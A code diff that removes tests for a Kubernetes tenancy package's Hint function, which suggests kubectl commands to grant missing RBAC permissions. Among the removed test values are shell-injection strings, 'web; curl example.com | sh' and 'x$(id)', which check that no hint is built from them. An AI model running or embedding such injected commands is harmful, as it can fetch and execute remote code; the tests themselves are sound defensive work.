@@ -5,8 +5,6 @@ import (
 	"strings"
 	"testing"
 
-	"k8s.io/apimachinery/pkg/types"
-
 	"github.com/flotilla-io/flotilla/policies/tenancy"
 )
 
@@ -87,75 +85,6 @@ func TestRulesAreChecked(t *testing.T) {
 			err := tc.rules.Check()
 			if (err == nil) != (tc.want == "") || err != nil && !strings.HasPrefix(err.Error(), tc.want) {
 				t.Errorf("error = %v, want one that begins with %q", err, tc.want)
-			}
-		})
-	}
-}
-
-// TestWhatHoldsTenants: nobody is told how to give away what holds those whom it holds.
-func TestWhatHoldsTenants(t *testing.T) {
-	who := tenancy.Identity{ServiceAccount: types.NamespacedName{Namespace: "shop", Name: "default"}, Because: "as it names no spec.serviceAccountName"}
-	for what, where := range map[string]string{
-		`resource "resourcequotas" in API group "" in the namespace "web"`:                                        "resourcequotas",
-		`resource "federatedresourcequotas" in API group "policy.karmada.io" in the namespace "web"`:              "federatedresourcequotas.policy.karmada.io",
-		`resource "clusterrolebindings" in API group "rbac.authorization.k8s.io" at the cluster scope`:            "clusterrolebindings.rbac.authorization.k8s.io",
-		`resource "validatingadmissionpolicies" in API group "admissionregistration.k8s.io" at the cluster scope`: "validatingadmissionpolicies.admissionregistration.k8s.io",
-	} {
-		want := "it acts as the service account shop/default, as it names no spec.serviceAccountName; whoever may write " + where +
-			" is held by none: an administrator writes this, or has a Kustomization of his own do it"
-		if got := who.Hint(`x "y" is forbidden: User "system:serviceaccount:shop:default" cannot patch ` + what); got != want {
-			t.Errorf("%s:\n%s\nwant\n%s", what, got, want)
-		}
-	}
-}
-
-// TestHints: what is missing is granted by commands that can be pasted.
-func TestHints(t *testing.T) {
-	who := tenancy.Identity{ServiceAccount: types.NamespacedName{Namespace: "shop", Name: "default"}, Because: "as it names no spec.serviceAccountName"}
-	lead := "it acts as the service account shop/default, as it names no spec.serviceAccountName; to allow it: "
-	denies := func(what string) string {
-		return `x "y" is forbidden: User "system:serviceaccount:shop:default" cannot ` + what
-	}
-	cases := map[string]struct{ text, want string }{
-		"what the role edit covers": {
-			denies(`patch resource "deployments" in API group "apps" in the namespace "web"`),
-			"kubectl create rolebinding shop-default -n web --clusterrole=edit --serviceaccount=shop:default",
-		},
-		"roles": {
-			denies(`patch resource "roles" in API group "rbac.authorization.k8s.io" in the namespace "web"`),
-			"kubectl create rolebinding shop-default -n web --clusterrole=admin --serviceaccount=shop:default",
-		},
-		"a kind of one's own": {
-			denies(`patch resource "gadgets" in API group "example.com" in the namespace "web"`),
-			"kubectl create role shop-default-gadgets-example-com -n web --verb=get,create,patch,delete --resource=gadgets.example.com && " +
-				"kubectl create rolebinding shop-default-gadgets-example-com -n web --role=shop-default-gadgets-example-com --serviceaccount=shop:default",
-		},
-		"a look": {
-			denies(`get resource "secrets" in API group "" in the namespace "web"`),
-			"kubectl create role shop-default-get-secrets -n web --verb=get --resource=secrets && " +
-				"kubectl create rolebinding shop-default-get-secrets -n web --role=shop-default-get-secrets --serviceaccount=shop:default",
-		},
-		"what has no namespace": {
-			denies(`patch resource "namespaces" in API group "" at the cluster scope`),
-			"kubectl create clusterrole shop-default-namespaces --verb=get,create,patch,delete --resource=namespaces && " +
-				"kubectl create clusterrolebinding shop-default-namespaces --clusterrole=shop-default-namespaces --serviceaccount=shop:default",
-		},
-		"a namespace that a shell would run": {text: denies(`patch resource "configmaps" in API group "" in the namespace "web; curl example.com | sh"`)},
-		"a kind that it would":               {text: denies(`patch resource "x$(id)" in API group "example.com" in the namespace "web"`)},
-		"another refusal":                    {text: "quota exceeded"},
-		"somebody else's":                    {text: `serviceaccounts "default" is forbidden: User "loops" cannot impersonate resource "serviceaccounts" in API group "" in the namespace "shop"`},
-	}
-	for name, tc := range cases {
-		t.Run(name, func(t *testing.T) {
-			want := ""
-			if tc.want != "" {
-				want = lead + tc.want
-			}
-			if got := who.Hint(tc.text); got != want {
-				t.Errorf("hint = %q, want %q", got, want)
-			}
-			if got := (tenancy.Identity{}).Hint(tc.text); got != "" {
-				t.Errorf("the control plane itself is told %q", got)
 			}
 		})
 	}
